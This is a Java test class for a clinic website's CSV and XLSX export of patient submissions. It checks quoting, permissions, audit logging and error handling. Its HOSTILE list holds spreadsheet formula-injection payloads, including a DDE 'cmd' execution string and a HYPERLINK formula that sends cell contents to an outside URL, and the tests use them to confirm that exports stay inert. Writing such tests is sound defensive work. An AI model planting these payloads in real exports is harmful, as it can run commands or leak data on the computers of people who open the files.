package clinic.export;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import clinic.SiteTest;
import clinic.StaffVisitor;
import clinic.Visitor;
import clinic.Visitor.Seen;
import clinic.staff.RefusedException;
import clinic.staff.Role;
import clinic.staff.StaffRegister;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

@SiteTest
class ExportTests {

    private static final List<String> HOSTILE = List.of(
            "=1+1",
            "=cmd|'/c calc'!A1",
            "=HYPERLINK(\"https://example.com?x=\"&A1,\"click\")",
            "+1-1",
            "-2+3",
            "@SUM(1,1)",
            "＝1+1",
            "＋1",
            "－1",
            "＠A1",
            "\"quoted\", \"\"twice\"\" and a lone \"",
            "a,b;c|d\te",
            "a line\nanother line\n=1+1",
            "end;=1+1",
            "O'Brien & <b>sons</b> &amp;",
            "_x0041_ _x000D_ _x005F_",
            "👩‍⚕️ 🏳️‍🌈 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
            "مرحبا بالعالم, שלום",
            "zero\u200Bwidth",
            "0000123",
            "1/2",
            "1e5",
            "TRUE",
            "NULL",
            "2026-11-24",
            "x".repeat(2000));

    @LocalServerPort
    int port;

    @Autowired
    StaffRegister staff;

    @Autowired
    JdbcTemplate jdbc;

    StaffVisitor olga;
    String nameOfOlga;

    @BeforeEach
    void olgaComesToWork() throws RefusedException {
        jdbc.update("delete from submission");
        nameOfOlga = open(Role.ADMINISTRATOR);
        olga = signedIn(nameOfOlga);
    }

    @Test
    void giveBackEveryTextAsItWasSentInCsv() {
        HOSTILE.forEach(this::writes);

        List<NamedCsvRecord> rows = csv(olga.downloads("/desk/export", "/desk/export", Map.of("format", "CSV")));

        assertThat(rows)
                .extracting(row -> row.getField("Message"))
                .extracting(text -> text.equals("zero\u200Bwidth") ? text : text.replace("\u200B", ""))
                .containsExactlyElementsOf(HOSTILE);
        assertThat(rows).allSatisfy(row -> assertThat(row.getFields())
                .noneMatch(text -> text.matches("(?s)[=@＝＋－＠].*|-.+|\\+.*[^0-9 ].*")));
        assertThat(rows).extracting(row -> row.getField("Email or phone")).containsOnly("+1 303 555 0142");
    }

    @Test
    void giveBackEveryTextAsItWasSentInXlsxWithoutAFormula() throws IOException {
        HOSTILE.forEach(this::writes);

        List<Row> rows = xlsx(olga.downloads("/desk/export", "/desk/export", Map.of("format", "XLSX")));

        int message = rows.get(0).getCellCount() - 1;
        assertThat(rows.stream().skip(1).map(row -> row.getCellText(message)).map(ExportTests::asExcelReads))
                .containsExactlyElementsOf(HOSTILE);
        assertThat(rows.stream().flatMap(Row::stream).filter(cell -> cell != null && cell.getType() != CellType.EMPTY))
                .allMatch(cell -> cell.getType() == CellType.STRING && cell.getFormula() == null);
    }

    @Test
    void haveEachAnswerUnderItsTitle() {
        asks(Map.of(
                "forWhom", "SOMEONE_ELSE",
                "requesterName", "Ana Puig",
                "relationship", "Daughter",
                "adult", "YES",
                "email", "rosa@example.com",
                "leaveMessage", "NO",
                "howLong", "WEEKS",
                "note", "Has a cane,\ncomes by \"tram\"."));
        String reference = reference();

        NamedCsvRecord row = csv(olga.downloads("/desk/export", "/desk/export", Map.of("format", "CSV")))
                .get(0);

        Map<String, String> expected = new HashMap<>(Map.of(
                "Reference", reference,
                "Kind", "Consultation request",
                "Status", "New",
                "Full name", "Rosa Delgado",
                "Phone", "303-555-0142",
                "Email", "rosa@example.com",
                "Asked by", "Ana Puig",
                "Relationship", "Daughter",
                "18 or over", "Yes",
                "May leave a message", "No"));
        expected.putAll(Map.of(
                "Main area", "Lower back",
                "How long", "2 to 6 weeks",
                "Note", "Has a cane,\ncomes by \"tram\".",
                "Owner", "",
                "Message", ""));
        assertThat(row.getFieldsAsMap()).containsAllEntriesOf(expected);
        assertThat(row.getField("Received")).matches("\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d");
    }

    @ParameterizedTest
    @EnumSource(Format.class)
    void areNamedWithoutAnyoneKeptByNobodyAndWrittenDown(Format format) {
        writes("Hello");
        asks(Map.of());

        HttpResponse<byte[]> file = olga.downloads("/desk/export", "/desk/export", Map.of("format", format.name()));

        assertThat(file.statusCode()).isEqualTo(200);
        assertThat(file.headers().firstValue("Content-Disposition").orElse(""))
                .matches("attachment; filename=\"submissions-\\d{4}-\\d\\d-\\d\\d\\." + format.word() + "\"");
        assertThat(file.headers().firstValue("Cache-Control")).hasValue("no-store");
        assertThat(linesOf(nameOfOlga)).contains("export." + format.word() + " rows-2 DONE");
    }

    @Test
    void areCsvAsTheStandardWantsItAndExcelKnowsIt() {
        writes("a \"quote\"");

        String text = new String(
                olga.downloads("/desk/export", "/desk/export", Map.of("format", "CSV"))
                        .body(),
                UTF_8);

        assertThat(text).startsWith("\uFEFF\"Reference\",\"Kind\",").endsWith(",\"a \"\"quote\"\"\"\r\n");
        assertThat(text.split("\r\n", -1)).hasSize(3);
    }

    @Test
    void holdWhatWasChosenAndTellBeforeHowMuch() {
        writes("Hello");
        asks(Map.of());
        jdbc.update(
                "update submission set status = 'CLOSED', open = false, close_reason = 'SPAM' where kind = 'REQUEST'");
        writes("Old");
        jdbc.update(
                "update submission set received_at = timestamp with time zone '2020-02-01 12:00:00Z'"
                        + " where reference = ?",
                reference());

        assertThat(olga.opens("/desk/export").text(".export-rows")).isEqualTo("3 rows");
        assertChoice("kind=REQUEST", 1);
        assertChoice("kind=MESSAGE", 2);
        assertChoice("open=true", 2);
        assertChoice("status=CLOSED", 1);
        assertChoice("to=2020-02-01", 1);
        assertChoice("from=2020-02-02", 2);
        assertChoice("from=2020-02-01&to=2020-02-01&kind=MESSAGE&open=true", 1);
        Seen none = olga.opens("/desk/export?to=2020-01-31");
        assertThat(none.text(".export-rows")).isEqualTo("Nothing to export");
        assertThat(none.page().select("form[method=post][action=/desk/export]")).isEmpty();
    }

    private void assertChoice(String choice, int rows) {
        String page = "/desk/export?" + choice;
        assertThat(olga.opens(page).text(".export-rows")).as(choice).isEqualTo(rows == 1 ? "1 row" : rows + " rows");
        assertThat(csv(olga.downloads(page, "/desk/export", Map.of("format", "CSV"))))
                .as(choice)
                .hasSize(rows);
    }

    @ParameterizedTest
    @EnumSource(
            value = Role.class,
            names = {"FRONT_DESK", "CLINICIAN"})
    void areForThoseWhomAnAdministratorAllowsAndAsLong(Role role) throws RefusedException {
        writes("Hello");
        String name = open(role);
        StaffVisitor ben = signedIn(name);
        assertThat(ben.opens("/desk/export").status()).isEqualTo(403);
        assertThat(ben.opens("/desk").page().select(".desk-menu a").eachAttr("href"))
                .doesNotContain("/desk/export");

        staff.allowExport(name);
        assertThat(ben.opens("/desk").page().select(".desk-menu a").eachAttr("href"))
                .contains("/desk/export");
        Seen page = ben.opens("/desk/export");
        assertThat(page.text(".desk-said")).contains("What is in the file is personal");
        Map<String, String> form =
                Map.of("_csrf", page.page().select(".export-file [name=_csrf]").val(), "format", "CSV");
        assertThat(ben.posts("/desk/export", form).status()).isEqualTo(200);

        staff.forbidExport(name);
        assertThat(ben.posts("/desk/export", form).status()).isEqualTo(403);
        assertThat(linesOf(name)).filteredOn(line -> line.startsWith("export.")).hasSize(1);
    }

    @Test
    void areRefusedWithoutTheToken() {
        assertThat(olga.posts("/desk/export", Map.of("format", "CSV")).status()).isEqualTo(403);
    }

    @Test
    void endInAPageWithAllItsHeadersIfTheyCannotBegin() {
        writes("Hello");
        jdbc.execute("alter table contact_message rename to contact_message_away");
        try {
            HttpResponse<byte[]> page = olga.downloads("/desk/export", "/desk/export", Map.of("format", "CSV"));

            assertThat(page.statusCode()).isEqualTo(500);
            assertThat(page.headers().firstValue("Content-Security-Policy")).isPresent();
            assertThat(page.headers().firstValue("Cache-Control").orElse("")).contains("no-store");
            assertThat(page.headers().firstValue("Content-Type").orElse("")).startsWith("text/html");
            assertThat(page.headers().firstValue("Content-Disposition")).isEmpty();
        } finally {
            jdbc.execute("alter table contact_message_away rename to contact_message");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"kind=NONSENSE", "status=GONE", "from=soon", "open=perhaps"})
    void refuseAChoiceThatMeansNothing(String choice) {
        assertThat(olga.opens("/desk/export?" + choice).status()).isEqualTo(400);
        writes("Hello");
        String[] parts = choice.split("=", 2);
        assertThat(olga.downloads("/desk/export", "/desk/export", Map.of("format", "CSV", parts[0], parts[1]))
                        .statusCode())
                .isEqualTo(400);
        assertThat(olga.downloads("/desk/export", "/desk/export", Map.of("format", "PDF"))
                        .statusCode())
                .isEqualTo(400);
        assertThat(linesOf(nameOfOlga)).noneMatch(line -> line.startsWith("export."));
    }

    private String open(Role role) throws RefusedException {
        String name = "export." + UUID.randomUUID().toString().substring(0, 8);
        staff.add(name, role, StaffVisitor.PASSWORD);
        return name;
    }

    private StaffVisitor signedIn(String name) {
        StaffVisitor visitor = StaffVisitor.of(port);
        visitor.signsIn(name);
        return visitor;
    }

    private List<String> linesOf(String who) {
        return jdbc.queryForList(
                "select act || ' ' || record || ' ' || outcome from audit_entry where who = ?", String.class, who);
    }

    private String reference() {
        return jdbc.queryForList("select reference from submission order by received_at desc", String.class)
                .get(0);
    }

    static List<NamedCsvRecord> csv(HttpResponse<byte[]> file) {
        String text = new String(file.body(), UTF_8);
        assertThat(text).startsWith("\uFEFF");
        return CsvReader.builder().ofNamedCsvRecord(text.substring(1)).stream().toList();
    }

    private static List<Row> xlsx(HttpResponse<byte[]> file) throws IOException {
        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(file.body()))) {
            return workbook.getFirstSheet().read();
        }
    }

    /** Excel reads {@code _x005F_} as the underscore that it stands for; the reader here does not. */
    private static String asExcelReads(String text) {
        return text.replace("_x005F_", "_");
    }

    private void writes(String message) {
        assertThat(Visitor.of(port)
                        .sends(
                                "/contact",
                                Map.of(
                                        "name", "Ana",
                                        "replyTo", "+1 303 555 0142",
                                        "subject", "Hello",
                                        "message", message))
                        .status())
                .as(message)
                .isEqualTo(303);
    }

    private void asks(Map<String, String> more) {
        Map<String, String> answers = new HashMap<>(Map.of(
                "warningSigns", "NO",
                "fullName", "Rosa Delgado",
                "phone", "303-555-0142",
                "area", "LOWER_BACK",
                "consent", "2026-11"));
        answers.putAll(more);
        assertThat(Visitor.of(port).sends("/consultation", answers).status()).isEqualTo(303);
    }
}
